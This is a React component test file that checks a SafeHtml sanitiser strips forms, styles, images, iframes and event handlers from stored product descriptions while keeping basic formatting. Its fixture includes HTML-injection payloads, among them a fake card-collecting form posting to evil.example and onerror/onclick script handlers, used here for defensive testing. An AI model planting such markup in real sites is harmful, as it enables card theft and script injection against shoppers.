import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { SafeHtml } from './SafeHtml';

/** Markup a product text or banner caption may carry if it was stored before the server cleaned it. */
const HOSTILE = [
  '<p>Soft <strong>muslin</strong>, <em>dyed</em> by hand<br>in Jaipur</p>',
  '<ul><li>100% organic cotton</li></ul>',
  '<form action="https://evil.example/steal"><input name="card"><button>Pay now</button></form>',
  '<style>body { display: none }</style>',
  '<img src="x" onerror="alert(1)">',
  '<p style="position:fixed;inset:0" class="overlay">Sale</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="/category-page/3" title="Rompers" onclick="alert(2)">Rompers</a>',
].join('');

describe('SafeHtml', () => {
  it('keeps the formatting tags and drops forms, styles, images, frames and handlers', () => {
    const { container } = render(<SafeHtml html={HOSTILE} />);
    const shown = container.firstElementChild as HTMLElement;
    for (const tag of ['form', 'input', 'button', 'style', 'img', 'iframe']) {
      expect(shown.querySelector(tag), tag).toBeNull();
    }
    expect(shown.innerHTML).not.toMatch(/onerror|onclick|style=|class=|display: none/);
    expect(shown.querySelector('strong')?.textContent).toBe('muslin');
    expect(shown.querySelector('li')?.textContent).toBe('100% organic cotton');
    expect(shown.querySelector('a')?.getAttribute('href')).toBe('/category-page/3');
    expect(shown.querySelector('a')?.getAttribute('title')).toBe('Rompers');
  });
});
